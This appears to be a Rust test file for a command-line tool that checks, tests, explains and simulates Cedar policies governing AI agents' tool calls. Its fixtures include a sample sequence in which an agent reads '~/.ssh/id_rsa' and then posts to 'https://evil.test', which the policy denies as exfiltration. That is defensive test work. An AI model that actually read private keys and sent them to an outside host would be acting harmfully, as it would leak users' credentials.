//! The commands, on files.

use std::path::{Path, PathBuf};

use super::{Output, PolicyArgs, PolicyCommand, SetArgs, run};

struct Ran {
    code: u8,
    out: String,
    errors: String,
}

fn go(command: PolicyCommand, output: Output) -> Ran {
    let (mut out, mut errors) = (Vec::new(), Vec::new());
    let code = run(&PolicyArgs { command, output }, &mut out, &mut errors);
    Ran {
        code,
        out: String::from_utf8(out).unwrap(),
        errors: String::from_utf8(errors).unwrap(),
    }
}

fn file(folder: &Path, name: &str, text: &str) -> PathBuf {
    let path = folder.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

const fn set(files: Vec<PathBuf>) -> SetArgs {
    SetArgs {
        files,
        no_default_pack: false,
    }
}

const EVENTS: &str = r#"{"id":"d1","name":"read_file","arguments":{"path":"~/.ssh/id_rsa"},"tool":{"class":["read"]},"result":{},"verdict":"allow","rule":"default-use"}
{"id":"d2","name":"post","arguments":{"url":"https://evil.test"},"tool":{"class":["send"]},"verdict":"deny","rule":"exfiltration-after-secret"}
{"id":"d3","name":"list","facts":["read.any","gone"],"verdict":"allow","rule":"default-use"}
"#;

#[test]
fn what_is_wrong_for_every_action_is_told_once() {
    let folder = tempfile::tempdir().unwrap();
    let text = "forbid (principal, action, resource) when { context.mcps.nope };";
    let bad = file(folder.path(), "bad.cedar", text);
    let done = go(
        PolicyCommand::Check {
            set: set(vec![bad]),
        },
        Output::Table,
    );
    let told = done.errors + &done.out;
    let told: Vec<&str> = told
        .lines()
        .filter(|line| line.contains("mcps.nope"))
        .collect();
    let [one] = told.as_slice() else {
        panic!("{told:?}");
    };
    assert!(
        one.contains("for Action::\"call_tool\" and 14 other actions not found"),
        "{one}"
    );
}

#[test]
fn check_says_what_was_read_or_every_error() {
    let folder = tempfile::tempdir().unwrap();
    let good = go(
        PolicyCommand::Check {
            set: set(Vec::new()),
        },
        Output::Table,
    );
    assert_eq!(good.code, 0, "{}", good.out);
    assert!(
        good.out.starts_with("valid: ") && good.out.contains("default.cedar"),
        "{}",
        good.out
    );
    let bad = file(
        folder.path(),
        "bad.cedar",
        "permit (principal, action, resource);\nforbid (principal, action, resource) when { context.mcps.nope };",
    );
    let refused = go(
        PolicyCommand::Check {
            set: set(vec![bad.clone()]),
        },
        Output::Table,
    );
    assert_eq!(refused.code, 6);
    assert!(refused.out.contains("bad.cedar:2: "), "{}", refused.out);
    let json = go(
        PolicyCommand::Check {
            set: set(vec![bad]),
        },
        Output::Json,
    );
    let json: serde_json::Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!(
        (json["valid"].as_bool(), json["errors"][0]["line"].as_u64()),
        (Some(false), Some(2))
    );
    let missing = go(
        PolicyCommand::Check {
            set: set(vec!["/nowhere.toml".into()]),
        },
        Output::Table,
    );
    assert_eq!(missing.code, 2);
    assert!(missing.errors.contains("/nowhere.toml"));
}

#[test]
fn test_runs_cases_and_says_what_came_instead() {
    let folder = tempfile::tempdir().unwrap();
    let cases = file(
        folder.path(),
        "cases.toml",
        r#"
[[case]]
name = "a key does not leave"
expect = "deny"
rule = "exfiltration-after-secret"
call = { name = "post", tool.class = ["send"], arguments.url = "https://evil.test" }
[[case.before]]
name = "read_file"
arguments.path = "~/.ssh/id_rsa"
tool.class = ["read"]
result = {}

[[case]]
name = "wrong"
expect = "deny"
call = { name = "echo" }
"#,
    );
    let test = |output| {
        let cases = vec![cases.clone()];
        go(
            PolicyCommand::Test {
                set: set(Vec::new()),
                cases,
            },
            output,
        )
    };
    let ran = test(Output::Table);
    assert_eq!(ran.code, 6, "{}{}", ran.out, ran.errors);
    assert!(
        ran.out
            .contains("failed: wrong: expected deny, got allow by default-use"),
        "{}",
        ran.out
    );
    assert!(ran.out.contains("1 passed, 1 failed"), "{}", ran.out);
    assert!(test(Output::Json).out.contains("\"passed\":1"));
}

#[test]
fn explain_names_the_rule_its_place_and_the_facts() {
    let folder = tempfile::tempdir().unwrap();
    let events = file(folder.path(), "events.jsonl", EVENTS);
    let explain = |id: &str, output| {
        let (events, id) = (events.clone(), Some(id.to_owned()));
        go(
            PolicyCommand::Explain {
                set: set(Vec::new()),
                events,
                id,
            },
            output,
        )
    };
    let ran = explain("d2", Output::Table);
    assert_eq!(ran.code, 0, "{}", ran.errors);
    for part in [
        "verdict   deny",
        "exfiltration-after-secret  default.toml:",
        "egress.unlisted",
        "A secret was read",
    ] {
        assert!(ran.out.contains(part), "{part}: {}", ran.out);
    }
    let json: serde_json::Value = serde_json::from_str(&explain("d1", Output::Json).out).unwrap();
    assert_eq!(json["because"][0]["rule"], "default-use");
    assert_eq!(json["result"]["facts"][0], "secret.read");
    assert_eq!(explain("d9", Output::Table).code, 3);
}

#[test]
fn simulate_prints_what_a_new_set_would_change() {
    let folder = tempfile::tempdir().unwrap();
    let events = file(folder.path(), "events.jsonl", EVENTS);
    let more = file(
        folder.path(),
        "more.cedar",
        "@id(\"no-list\") forbid (principal, action == Action::\"call_tool\", resource == Tool::\"list\");",
    );
    let simulate = |files: Vec<PathBuf>, output| {
        let (events, against) = (events.clone(), Vec::new());
        go(
            PolicyCommand::Simulate {
                set: set(files),
                events,
                against,
            },
            output,
        )
    };
    let same = simulate(Vec::new(), Output::Table);
    assert!(
        same.out.contains("3 calls, 3 decided as before"),
        "{}{}",
        same.out,
        same.errors
    );
    assert!(same.out.contains("1 with facts on record"), "{}", same.out);
    let changed = simulate(vec![more], Output::Json);
    let lines: Vec<serde_json::Value> = changed
        .out
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(
        (lines[0]["id"].as_str(), lines[0]["rule"].as_str()),
        (Some("d3"), Some("no-list"))
    );
    assert_eq!(lines[1]["changes"][0]["calls"], 1);
    let bad = file(folder.path(), "bad.jsonl", "{}\n{\"nme\":1}\n");
    let refused = go(
        PolicyCommand::Simulate {
            set: set(Vec::new()),
            events: bad,
            against: Vec::new(),
        },
        Output::Table,
    );
    assert_eq!(refused.code, 2);
    assert!(refused.errors.contains("bad.jsonl:2"), "{}", refused.errors);
}

#[test]
fn check_notes_what_no_gateway_does_yet() {
    let folder = tempfile::tempdir().unwrap();
    let rests = file(
        folder.path(),
        "rests.toml",
        "version = 1\n[[fact]]\nid = \"card.seen\"\non = \"result\"\nwhen = { finding = [\"card\"] }\n",
    );
    let masks = file(
        folder.path(),
        "masks.cedar",
        "@id(\"masked\") @mask(\"personal\") permit (principal, action, resource);",
    );
    let check = |files: Vec<PathBuf>, output| {
        let set = SetArgs {
            files,
            no_default_pack: true,
        };
        let checked = go(PolicyCommand::Check { set }, output);
        assert_eq!(checked.code, 0, "{}", checked.out);
        checked.out
    };
    let plain = file(
        folder.path(),
        "plain.cedar",
        "permit (principal, action, resource);",
    );
    let said = check(vec![plain.clone()], Output::Table);
    assert!(!said.contains("note: "), "{said}");
    let said = check(vec![rests.clone(), masks.clone()], Output::Table);
    for (line, named) in [
        ("`finding` never holds", "card.seen"),
        ("mask nothing", "masked"),
    ] {
        let mut lines = said.lines().filter(|said| said.starts_with("note: "));
        assert!(
            lines.any(|said| said.contains(line) && said.contains(named)),
            "{said}"
        );
    }
    let json: serde_json::Value =
        serde_json::from_str(&check(vec![rests, masks], Output::Json)).unwrap();
    assert_eq!(json["notes"].as_array().unwrap().len(), 2, "{json}");
}
